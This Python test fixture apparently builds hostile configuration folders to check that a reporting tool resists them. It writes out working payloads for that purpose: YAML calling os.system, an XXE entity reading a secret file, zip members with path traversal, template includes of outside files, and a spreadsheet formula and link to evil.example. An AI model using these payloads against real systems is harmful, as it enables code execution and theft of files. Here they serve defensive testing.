"""The folder of our own configuration, with hostile files of others in it."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable, Mapping

from tests.hostile.place import CODE, TEMPLATE, Place

Change = Callable[[Place], None]
MODULES = ("selectors", "boto3", "yaml", "jinja2", "duckdb", "openpyxl", "sitecustomize", "conftest", "typing")
PACKAGES = ("checks", "reporter", "msgspec")
YAML = """
waivers:
  - !!python/object/apply:os.system ["touch {ran}"]
  - !!python/name:os.system
  - {{id: !!python/object/new:pathlib.Path ["{secret}"], check: &x [*x], reason: "../../{secret}"}}
  - !include {secret}
"""


def has_code_in_it(place: Place) -> None:
    """Modules with the names of those that the program imports."""
    code = CODE.format(ran=str(place.ran))
    for name in MODULES:
        (place.own / f"{name}.py").write_text(code)
    for name in PACKAGES:
        (place.own / name).mkdir()
        (place.own / name / "__init__.py").write_text(code)
        (place.own / name / "evil.py").write_text(code)
    (place.own / ".env").write_text("AWS_PROFILE=evil\nAWS_ENDPOINT_URL=http://evil.example\n")


def has_hostile_waivers(place: Place) -> None:
    """YAML that would create objects."""
    content = YAML.format(ran=place.ran, secret=place.elsewhere / "secret")
    (place.own / "waivers.yml").write_text(content)


def has_hostile_frameworks(place: Place) -> None:
    """Frameworks in YAML that would create objects."""
    content = YAML.format(ran=place.ran, secret=place.elsewhere / "secret")
    (place.own / "frameworks" / "evil.yml").write_text(content)


def has_hostile_templates(place: Place) -> None:
    """Templates that reach for the program that renders them."""
    for name in ("mail.txt.j2", "mail.html.j2"):
        (place.own / "templates" / name).write_text(TEMPLATE.format(ran=str(place.ran)))


def has_templates_that_read(place: Place) -> None:
    """Templates that put other files into the mail."""
    (place.own / "templates" / "mail.txt.j2").write_text("{% include '../../elsewhere/secret' %}")
    (place.own / "templates" / "mail.html.j2").write_text("{% include 'innocent' %}")
    (place.own / "templates" / "innocent").symlink_to(place.elsewhere / "secret")


def has_workbooks_that_lead_elsewhere(place: Place) -> None:
    """Links among the workbooks."""
    (place.own / "workbooks" / "link.xlsx").symlink_to(place.elsewhere / "secret")
    (place.own / "workbooks" / "folder").symlink_to(place.elsewhere)
    os.mkfifo(place.own / "workbooks" / "pipe.xlsx")


def has_a_hostile_workbook(place: Place) -> None:
    """XML that includes files, members that lead out of the archive, links, and a macro."""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{place.elsewhere}/secret"><!ENTITY f SYSTEM "http://127.0.0.1:'
    head = f'<?xml version="1.0"?>{entity}{place.evil_port}/">]>'
    with zipfile.ZipFile(place.own / "workbooks" / "evil.xlsm", "w") as book:
        for name, content in _parts(head).items():
            book.writestr(name, content)
        book.writestr("../../elsewhere/x", "out")
        book.writestr(f"{place.elsewhere}/x", "out")
        book.writestr("xl/vbaProject.bin", b"Shell")


def _parts(head: str) -> dict[str, str]:
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    packages = "http://schemas.openxmlformats.org/package/2006"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in ("ID", "Comment"))
    evil = '<c t="inlineStr"><is><t>&e;</t></is></c><c t="str"><f>WEBSERVICE("http://evil.example")</f><v>&f;</v></c>'
    return {
        "[Content_Types].xml": f'<Types xmlns="{packages}/content-types">'
        f'<Override PartName="/xl/workbook.xml" ContentType="{types}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{types}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{packages}/relationships"><Relationship Id="r1" '
        f'Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
        '<sheet name="Findings" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{packages}/relationships"><Relationship Id="r1" '
        f'Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" TargetMode="External" '
        f'Type="{relations}/externalLink" Target="http://evil.example/x.xlsx"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{main}"><sheetData><row r="1">{cells}</row>'
        f'<row r="2">{evil}</row></sheetData></worksheet>',
    }


def has_all_that_runs(place: Place) -> None:
    """Code, templates that are code, and a workbook with a macro."""
    has_code_in_it(place)
    has_hostile_templates(place)
    has_a_hostile_workbook(place)


def has_all_that_is_yaml(place: Place) -> None:
    """Waiver and framework files that would create objects."""
    has_hostile_waivers(place)
    has_hostile_frameworks(place)


def has_all_that_leads_elsewhere(place: Place) -> None:
    """Links among files that our configuration does not name one by one."""
    has_templates_that_read(place)
    has_workbooks_that_lead_elsewhere(place)


DIRECTORIES: Mapping[str, Change] = {
    change.__name__.replace("_", " "): change
    for change in (has_code_in_it, has_all_that_runs, has_all_that_is_yaml, has_all_that_leads_elsewhere)
}
"""By name of the change."""
